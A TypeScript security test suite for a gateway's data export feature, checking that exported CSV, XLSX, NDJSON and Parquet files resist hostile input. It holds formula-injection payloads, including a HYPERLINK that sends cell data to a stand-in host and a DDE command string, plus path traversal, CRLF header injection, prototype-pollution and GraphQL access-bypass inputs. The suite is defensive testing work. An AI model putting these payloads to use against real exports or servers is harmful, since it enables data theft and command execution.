import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import ExcelJS from 'exceljs'
import { parquetMetadataAsync } from 'hyparquet'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type World, openWorld } from '../federation/gateway-world.ts'
import { codesOf, csvCells, type Exported, exported } from '../support/exported.ts'
import { ledger } from '../support/ledger.ts'
import { openAttempts } from './attempts.ts'

const attempts = openAttempts()
const book = ledger(2500)
const usual = book.entries.map((entry) => ({ ...entry }))
let world: World

beforeAll(async () => {
  const exports = { rows: { '*': 10_000 }, maxBytes: 2 ** 30, atOnce: 2, atOnceInAll: 3 }
  world = await openWorld({ exports, maxAnswerBytes: 5_000_000 }, [book])
})
afterAll(async () => {
  attempts.report()
  await world[Symbol.asyncDispose]()
})

const entries = '{ entries { nodes { id text amount } } }'

async function ask(
  body: object | string,
  { sub = 'attacker', headers = {}, signal }: AskOptions = {},
): Promise<Exported> {
  return await exported({
    url: world.gateway.url,
    token: await world.token('officer', { sub }),
    headers,
    body: typeof body === 'string' ? body : { query: entries, format: 'csv', ...body },
    ...(signal === undefined ? {} : { signal }),
  })
}

interface AskOptions {
  readonly sub?: string
  readonly headers?: Readonly<Record<string, string>>
  readonly signal?: AbortSignal
}

/** Runs with other entries, then puts the usual ones back. */
async function holding(texts: readonly string[], work: () => Promise<void>): Promise<void> {
  book.entries.splice(0, Infinity, ...texts.map((text, i) => ({ ...one(i), text })))
  await work()
  book.entries.splice(0, Infinity, ...usual)
}

function one(i: number) {
  return { id: String(i), text: '', at: '2026-11-01T00:00:00Z', amount: i }
}

const dangerous = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+cmd|/c calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(A1)',
  'a","=1+1',
  'a\r\n=1+1',
  '"\r\n=1+1,"',
  '',
  ' ',
  "'",
  '<v>1</v></c><c r="Z1"><f>1+1</f>',
  ']]>&lt;\u0000\u0007\uD800\uFFFE_x0041_',
  'x'.repeat(32_767),
]

describe('values that are formulas, markup or line breaks', () => {
  test('CSV', async () => {
    await holding(dangerous, async () => {
      const rows = csvCells(await ask({})).slice(1)
      expect(rows).toHaveLength(dangerous.length)
      for (const [i, text] of dangerous.entries())
        await attempts.attack(`csv ${JSON.stringify(text.slice(0, 40))}`, () => {
          const [id, shown = '', amount] = rows[i] ?? []
          const isFormula = /^[=+\-@\t\r\n＝＋－＠]/.test(shown)
          const isKept = [text, `'${text}`].map(wellFormed).includes(shown)
          return isFormula || !isKept || id !== String(i) || amount !== String(i)
        })
    })
  })

  test('XLSX', async () => {
    await holding(dangerous, async () => {
      const { bytes } = await ask({ format: 'xlsx' })
      const read = new ExcelJS.Workbook()
      // Its types were written for an older Buffer.
      await read.xlsx.load(bytes as unknown as ExcelJS.Buffer)
      const sheet = read.getWorksheet('data')
      for (const [i, text] of dangerous.entries())
        await attempts.attack(`xlsx ${JSON.stringify(text.slice(0, 40))}`, () => {
          const cell = sheet?.getRow(i + 2).getCell(2)
          if (cell === undefined) return true
          const isText = [ExcelJS.ValueType.String, ExcelJS.ValueType.Null].includes(cell.type)
          // What exceljs does not read back: `_xHHHH_`, and a line break that XML makes one character.
          const isPlain = !/[\p{Cc}\p{Cs}\uFFFE]|_x/u.test(text)
          return cell.formula !== undefined || !isText || (isPlain && (cell.value ?? '') !== text)
        })
      expect(sheet?.rowCount).toBe(dangerous.length + 1)
    })
  })

  test('a cell that XLSX cannot hold breaks the file off; nothing is shortened', async () => {
    await holding(['x'.repeat(32_768)], async () => {
      expect(await ask({ format: 'xlsx' })).toMatchObject({ status: 200, isWhole: false })
    })
  })
})

describe('half a file', () => {
  for (const format of ['csv', 'ndjson', 'xlsx', 'parquet'] as const)
    for (const archive of [undefined, 'zip'])
      test(`${format} ${archive ?? ''}: a ministry that fails on the third page`, async () => {
        book.onPage = async (_first, after) => {
          if (after === '1999') throw new Error('gone')
        }
        const file = await ask({ format, ...(archive ? { archive } : {}) })
        book.onPage = async () => undefined
        await attempts.attack(
          `half a file passes for a whole one: ${format} ${archive}`,
          async () =>
            file.isWhole ||
            file.trailers['x-export-end'] !== undefined ||
            (await opens(file, format)),
        )
      })

  test('a first page that fails is refused in words, with a status that says so', async () => {
    book.onPage = async () => await Promise.reject(new Error('gone'))
    const refused = await ask({})
    book.onPage = async () => undefined
    expect([refused.status, codesOf(refused)]).toEqual([502, ['MINISTRY_UNAVAILABLE']])
  })

  test('HTTP/1.0, where the end of the connection is the end of the file, is refused', async () => {
    const token = await world.token('officer')
    const body = JSON.stringify({ query: entries, format: 'csv' })
    const head = `POST /export HTTP/1.0\r\nHost: localhost\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = connect(Number(new URL(world.gateway.url).port), '127.0.0.1', () =>
        socket.write(head + body),
      )
      let text = ''
      socket.on('data', (chunk: Buffer) => (text += chunk.toString()))
      socket.on('end', () => resolve(text))
      socket.on('error', reject)
    })
    expect(answer).toMatch(/^HTTP\/1\.1 505 /)
  })
})

describe('ways around a rule', () => {
  const closed: readonly (readonly [name: string, body: object | string, status: number])[] = [
    ['a field that the caller does not see', { query: '{ secret { id } }' }, 400],
    ['the same beside the list', { query: '{ entries { nodes { id } } secret { id } }' }, 400],
    [
      'the same in a fragment that is not spread on the path',
      { query: '{ entries { nodes { id } } ...s } fragment s on Query { secret { id } }' },
      400,
    ],
    ['a path into the prototype', { path: '__proto__.constructor' }, 400],
    [
      'a path that is no list',
      {
        path: 'box.label',
        query: '{ box { label entries { nodes { id } } } entries { nodes { id } } }',
      },
      400,
    ],
    ['the schema as a list', { query: '{ __schema { types { name } } }' }, 400],
    ['a name that leaves the folder', { name: '../../etc/cron.d/x' }, 400],
    ['a name with a line break', { name: 'x\r\nset-cookie: a=b' }, 400],
    ['rows without end', { rows: 1e300 }, 400],
    ['rows below one', { rows: 0 }, 400],
    ['no format', { format: undefined }, 400],
    ['a batch', JSON.stringify([{ query: entries, format: 'csv' }]), 400],
    ['no JSON', '{', 400],
    [
      'a variable of the wrong kind that decides what is read',
      {
        query: 'query ($s: Boolean!) { entries @skip(if: $s) { nodes { id } } }',
        variables: { s: 'no' },
      },
      400,
    ],
    ['backwards', { query: '{ entries(last: 3) { nodes { id } } }' }, 400],
    ['two lists of rows', { query: '{ entries { nodes { id } edges { node { id } } } }' }, 400],
  ]
  test.each(closed)('%s', async (name, body, status) => {
    const before = book.asked.length
    const refused = await ask(body)
    await attempts.attack(name, () => refused.status !== status || book.asked.length !== before)
    expect(refused.status, refused.bytes.toString('utf8')).toBe(status)
    expect(codesOf(refused).length).toBeGreaterThan(0)
  })

  test('a plain form of another site', async () => {
    await attempts.attack('a plain form', async () => {
      const refused = await ask('query={entries{nodes{id}}}&format=csv', {
        headers: { 'content-type': 'text/plain' },
      })
      return refused.status !== 415
    })
  })

  test('variables of the caller never take the place of those that walk', async () => {
    const query =
      'query ($exportFirst: Int, $exportAfter: String) { entries(first: $exportFirst, after: $exportAfter) { nodes { id } } }'
    const file = await ask({ query, variables: { exportFirst: 1_000_000, exportAfter: '2489' } })
    expect(
      csvCells(file)
        .slice(1)
        .map(([id]) => id),
    ).toEqual(Array.from({ length: 10 }, (_, i) => String(2490 + i)))
    expect(book.asked.at(-1)).toEqual({ first: 1000, after: '2489' })
  })
})

describe('what it may take', () => {
  test('exports at once, of one caller and of all', async () => {
    let go: (() => void) | undefined
    const held = new Promise<void>((resolve) => (go = resolve))
    book.onPage = async () => await held
    const leaving = new AbortController()
    const own = [ask({}), ask({}, { signal: leaving.signal }).catch(() => undefined)]
    await until(() => book.asked.length > 0 && world.ministries['ledger'] !== undefined)
    await wait(150)
    const third = await ask({})
    expect([third.status, codesOf(third)]).toEqual([429, ['RATE_LIMITED']])
    const others = [ask({}, { sub: 'second' })]
    await wait(150)
    const fourth = await ask({}, { sub: 'third' })
    expect([fourth.status, codesOf(fourth)]).toEqual([429, ['RATE_LIMITED']])
    // Who leaves frees the place at once.
    leaving.abort()
    await own[1]
    await wait(150)
    const again = ask({})
    await wait(150)
    book.onPage = async () => undefined
    go?.()
    const all = await Promise.all([own[0], again, ...others])
    expect(all.map((file) => file?.isWhole)).toEqual([true, true, true])
  })

  test('a page that is too much is asked in half, until it is not', async () => {
    book.entries.splice(
      0,
      Infinity,
      ...usual.map((entry) => ({ ...entry, text: 'x'.repeat(4000) })),
    )
    const file = await ask({})
    book.entries.splice(0, Infinity, ...usual)
    expect(file.isWhole).toBe(true)
    expect(csvCells(file)).toHaveLength(2501)
  })

  test('a client that does not read slows the ministry, and does not fill the memory', async () => {
    const text = 'x'.repeat(1200)
    const many = Array.from({ length: 10_000 }, (_, i) => ({ ...one(i), text }))
    book.entries.splice(0, Infinity, ...many)
    const before = book.asked.length
    const socket = connect(Number(new URL(world.gateway.url).port), '127.0.0.1')
    const query = '{ entries { nodes { id text a: text b: text } } }'
    const body = JSON.stringify({ query, format: 'ndjson' })
    const token = await world.token('officer', { sub: 'slow' })
    socket.pause()
    socket.write(
      `POST /export HTTP/1.1\r\nHost: localhost\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
    )
    const pages = (): number => book.asked.length - before
    // What the sockets of the system hold is sent; then nothing moves any more.
    let last = 0
    for (let i = 0; i < 40 && (pages() === 0 || pages() !== last); i++) {
      last = pages()
      await wait(250)
    }
    const asked = pages()
    socket.destroy()
    book.entries.splice(0, Infinity, ...usual)
    await attempts.attack('a client that does not read fills the memory', () => asked >= 10)
    expect(asked).toBeGreaterThan(0)
  })
})

test('no attack succeeded', () => {
  expect(attempts.succeeded).toEqual([])
})

test('a list without rows is a whole file without rows', async () => {
  await holding([], async () => {
    expect(csvCells(await ask({}))).toEqual([['id', 'text', 'amount']])
    const lines = (await ask({ format: 'ndjson' })).bytes.toString('utf8')
    expect(JSON.parse(lines)).toMatchObject({ $export: { rows: 0, end: 'complete' } })
    for (const format of ['xlsx', 'parquet'] as const) {
      const file = await ask({ format })
      expect([file.isWhole, await opens(file, format)]).toEqual([true, true])
    }
  })
})

test('edges, a list of one object, and lists of both are told apart by their path', async () => {
  const both = { query: '{ box { few { id } entries { edges { node { id owner { name } } } } } }' }
  const unsaid = await ask(both)
  expect(unsaid.bytes.toString('utf8')).toContain('box.few, box.entries')
  const few = csvCells(await ask({ ...both, path: 'box.few' }))
  expect(few).toEqual([['id'], ['0'], ['1'], ['2']])
  const edges = csvCells(await ask({ ...both, path: 'box.entries.edges', rows: 2 }))
  expect(edges).toEqual([
    ['node.id', 'node.owner.name'],
    ['0', ''],
    ['1', 'owner 1'],
  ])
  const parts = await ask({
    query: '{ entries { nodes { id parts { name share } } } }',
    explode: 'parts',
    rows: 2,
  })
  expect(csvCells(parts)).toEqual([
    ['id', 'parts.name', 'parts.share'],
    ['0', 'a0', '0.5'],
    ['0', 'b0', ''],
    ['1', '', ''],
  ])
})

/** Lone surrogates do not survive UTF-8. */
function wellFormed(text: string): string {
  return Buffer.from(text, 'utf8').toString('utf8')
}

async function opens({ bytes }: Exported, format: string): Promise<boolean> {
  if (format === 'ndjson') return bytes.toString('utf8').includes('$export')
  const file = new Uint8Array(bytes).buffer
  try {
    if (format === 'parquet') await parquetMetadataAsync(file)
    else if (format === 'xlsx') await new ExcelJS.Workbook().xlsx.load(file)
    else return false
    return true
  } catch {
    return false
  }
}

async function until(isSo: () => boolean): Promise<void> {
  for (let i = 0; i < 100 && !isSo(); i++) await wait(20)
}
